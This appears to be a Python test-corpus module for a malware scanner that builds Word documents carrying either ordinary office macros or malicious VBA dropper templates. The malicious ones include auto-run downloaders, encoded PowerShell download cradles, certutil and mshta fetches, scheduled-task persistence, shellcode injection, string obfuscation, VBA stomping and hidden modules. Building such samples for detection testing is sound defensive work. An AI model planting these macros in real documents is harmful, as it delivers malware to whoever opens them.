"""Macros in VBA, as droppers and loaders write them, and their harmless sisters from offices."""

from __future__ import annotations

import struct
from collections.abc import Callable

from app.engine.model import Verdict
from app.sandbox import samples
from app.sandbox.compound_file import compound_file, compress, vba_project
from tests.corpus.payloads import DOWNLOAD, HTTP, PS, STREAM, WSH
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File, encoded

#: What people let macros do every day.
_HARMLESS = (
    "Sub {n}()\n    Dim {a} As Range\n    For Each {a} In Selection\n        {a}.Value = Trim({a}.Value)\n    "
    "Next {a}\n"
    "End Sub\n",
    "Function {n}({a} As Double) As Double\n    {n} = {a} * 1.19\nEnd Function\n",
    "Sub {n}()\n    ActiveDocument.Fields.Update\n    ActiveWindow.View.ShowFieldCodes = False\nEnd Sub\n",
    'Private Sub Workbook_Open()\n    Sheets(1).Range("A1").Value = Date\n    Application.StatusBar = "{a}"\nEnd Sub\n',
    'Private Sub Document_Open()\n    If ActiveDocument.ReadOnly Then MsgBox "{a}"\nEnd Sub\n',
    'Sub {n}()\n    With ActiveSheet.PageSetup\n        .Orientation = xlLandscape\n        .CenterHeader = "{a}"\n'
    "    End With\nEnd Sub\n",
)


def harmless(draw: Draw) -> str:
    """Return a macro of daily work."""
    return draw.rng.choice(_HARMLESS).replace("{n}", draw.name()).replace("{a}", draw.name())


def start(draw: Draw) -> str:
    """Return the name of a macro that starts by itself."""
    return draw.one("AutoOpen", "Auto_Open", "Document_Open", "Workbook_Open", "AutoClose", "Document_Close")


def document(draw: Draw, source: str) -> File:
    """Return a document with the macro: a new one, or an old one, which is a compound file."""
    if draw.rng.random() < 0.6:
        return File(f"{draw.stem()}.{draw.one('docm', 'doc', 'dotm')}", samples.macro_document(source))
    return File(f"{draw.stem()}.doc", old_document(vba_parts(source)))


def vba_parts(source: str, *, module: bytes | None = None) -> dict[str, bytes]:
    """Return the streams of a project; ``module`` in place of the packed source."""
    code = b'Attribute VB_Name = "Module1"\r\n' + source.replace("\n", "\r\n").encode("cp1252", "replace")
    return {"Module1": compress(code) if module is None else module}


def old_document(parts: dict[str, bytes]) -> bytes:
    """Return a document of the old kind with a storage of macros."""
    head = struct.pack("<HHHHHBBHI", 0xA5EC, 0xC1, 0, 0, 0, 0, 2, 0xBF, 0).ljust(600, b"\0")
    project = b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="Project"\r\n'
    whole = {"_VBA_PROJECT": b"\xcc\x61\xff\xff\0\0\0", "dir": _DIR, **parts}
    return compound_file({"WordDocument": head, "1Table": bytes(30), "PROJECT": project}, {"VBA": whole})


def _dir_stream() -> bytes:
    import io

    import olefile

    with olefile.OleFileIO(io.BytesIO(vba_project("Sub A()\nEnd Sub\n"))) as whole:
        return bytes(whole.openstream("VBA/dir").read())


_DIR = _dir_stream()


def _macro(name: str, write: Callable[[Draw], str]) -> None:
    def make(draw: Draw, harmful: bool) -> File:
        source = write(draw)
        return document(draw, source if harmful else harmless(draw))

    technique(f"macro.{name}", most=Verdict.SUSPICIOUS)(make)


def _download(draw: Draw) -> str:
    a, b = draw.name(), draw.name()
    return (
        'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long'
        ", ByVal u As String, ByVal f As String, ByVal r As Long, ByVal c As Long) As Long\n"
        f'Sub {start(draw)}()\n    Dim {a}\n    {a} = Environ$("{draw.one("TMP", "APPDATA", "PUBLIC")}") & '
        f'"\\{draw.word()}.{draw.one("exe", "scr", "dll")}"\n'
        f'    {b} = URLDownloadToFile(0, "{draw.url("exe")}", {a}, 0, 0)\n'
        f'    CreateObject("Shell.Application").Open {a}\nEnd Sub\n'
    )


def _objects(draw: Draw) -> str:
    a, b, c = draw.name(), draw.name(), draw.name()
    return (
        f'Sub {start(draw)}()\n    Set {a} = CreateObject("{HTTP}")\n    {a}.Open "GET", "{draw.url()}", False\n'
        f'    {a}.Send\n    Set {b} = CreateObject("{STREAM}")\n    {b}.Type = 1\n    {b}.Open\n'
        f'    {b}.Write {a}.responseBody\n    {c} = Environ("TEMP") & "\\{draw.word()}.exe"\n'
        f'    {b}.SaveToFile {c}, 2\n    CreateObject("{WSH}").Run {c}, 0\nEnd Sub\n'
    )


def _command(draw: Draw) -> str:
    a = draw.name()
    command = encoded(f"IEX((New-Object Net.WebClient).{DOWNLOAD}('{draw.url('ps1')}'))")
    return (
        f'Sub {start(draw)}()\n    Dim {a} As String\n    {a} = "{PS}" & ".exe -nop -w 1 -e {command}"\n'
        f'    GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create {a}, Null, Null, 0\nEnd Sub\n'
    )


def _characters(draw: Draw) -> str:
    """Text made of numbers, a few at a time, in a function of its own."""
    command, shift = f"cmd /c start mshta {draw.url('hta')}", draw.rng.randrange(3, 90)
    a, b, c = draw.name(), draw.name(), draw.name()
    codes = ",".join(str(ord(letter) + shift) for letter in command)
    return (
        f"Function {a}({b} As Variant) As String\n    Dim {c}\n    For Each {c} In {b}\n"
        f"        {a} = {a} & Chr({c} - {shift})\n    Next\nEnd Function\n"
        f"Sub {start(draw)}()\n    Shell {a}(Array({codes})), vbHide\nEnd Sub\n"
    )


def _pieces(draw: Draw) -> str:
    """Names and commands put together from short pieces and turned around."""
    a, b = draw.name(), draw.name()
    parts = " & ".join(f'"{part}"' for part in draw.pieces(f"{PS} -w hidden -c iwr {draw.url('exe')} -o a.exe"))
    shell = '" & "'.join(draw.pieces(WSH[::-1]))
    return (
        f'Sub {start(draw)}()\n    {a} = {parts}\n    Set {b} = CreateObject(StrReverse("{shell}"))\n'
        f"    {b}.Run {a}, 0, False\nEnd Sub\n"
    )


def _replaced(draw: Draw) -> str:
    """A marker strewn into every text, taken out when it runs."""
    mark, a, b = draw.word(2) + "#", draw.name(), draw.name()

    def strewn(text: str) -> str:
        return mark.join(draw.pieces(text, 3))

    command = f"cmd.exe /c certutil -urlcache -split -f {draw.url('exe')} %TEMP%\\{draw.word()}.exe"
    return (
        f'Sub {start(draw)}()\n    {a} = Replace("{strewn(WSH)}", "{mark}", "")\n'
        f'    {b} = Replace("{strewn(command)}", "{mark}", "")\n    CreateObject({a}).Run {b}, 0\nEnd Sub\n'
    )


def _memory(draw: Draw) -> str:
    """Machine code copied into memory and started."""
    numbers = ",".join(str(value) for value in draw.rng.randbytes(60))
    a, b = draw.name(), draw.name()
    declare = "Private Declare PtrSafe Function"
    return (
        f'{declare} {a} Lib "kernel32" Alias "VirtualAlloc" (ByVal x As LongPtr, ByVal y As Long) As LongPtr\n'
        f'{declare} {b} Lib "kernel32" Alias "RtlMoveMemory" (ByVal x As LongPtr, y As Any) As LongPtr\n'
        f'{declare} EnumSystemLocalesA Lib "kernel32" (ByVal x As LongPtr, ByVal y As Long) As Long\n'
        f"Sub {start(draw)}()\n    Dim c As Variant, m As LongPtr\n    c = Array({numbers})\n"
        f"    m = {a}(0, UBound(c), &H3000, &H40)\n    {b} m, c(0)\n    EnumSystemLocalesA m, 0\nEnd Sub\n"
    )


def _hidden_in_document(draw: Draw) -> str:
    """The command lies in the properties or the text of the document."""
    place = draw.one(
        'ActiveDocument.BuiltInDocumentProperties("Comments").Value',
        "ActiveDocument.Variables(1).Value",
        "UserForm1.Label1.Caption",
        "ActiveDocument.Shapes(1).AlternativeText",
    )
    return f'Sub {start(draw)}()\n    CreateObject("{WSH}").Exec {place}\nEnd Sub\n'


def _task(draw: Draw) -> str:
    """A task that starts something at every sign-in."""
    a = draw.name()
    return (
        f'Sub {start(draw)}()\n    {a} = "schtasks /create /sc onlogon /tn {draw.word()} /tr ""mshta '
        f'{draw.url()}"" /f"\n'
        f'    Shell "cmd /c " & {a}, 0\nEnd Sub\n'
    )


for _name, _write in {
    "download": _download,
    "download_by_objects": _objects,
    "hidden_command": _command,
    "letters_as_numbers": _characters,
    "pieces": _pieces,
    "strewn_marker": _replaced,
    "machine_code": _memory,
    "text_from_document": _hidden_in_document,
    "task": _task,
}.items():
    _macro(_name, _write)


@technique("macro.source_removed", most=Verdict.SUSPICIOUS)
def _stomped(draw: Draw, harmful: bool) -> File:
    """The source is emptied; what was compiled from it still runs and still holds its names."""
    source = _objects(draw)
    if not harmful:
        return File(f"{draw.stem()}.doc", old_document(vba_parts(harmless(draw))))
    names = ("AutoOpen", WSH, HTTP, "Shell", "CreateObject", "responseBody", STREAM, "SaveToFile", draw.url("exe"))
    compiled = bytes.fromhex("0116010000b600fff5") + bytes(120) + b"".join(name.encode() + b"\0" for name in names)
    module = compiled + compress(b'Attribute VB_Name = "Module1"\r\n')
    return File(f"{draw.stem()}.doc", old_document({**vba_parts(source, module=module)}))


@technique("macro.module_not_listed", most=Verdict.SUSPICIOUS)
def _hidden_module(draw: Draw, harmful: bool) -> File:
    """A module that the list of the project leaves out, so that the editor does not show it."""
    source = _download(draw) if harmful else harmless(draw)
    parts = {**vba_parts(harmless(draw)), draw.word(): vba_parts(source)["Module1"]}
    return File(f"{draw.stem()}.doc", old_document(parts))
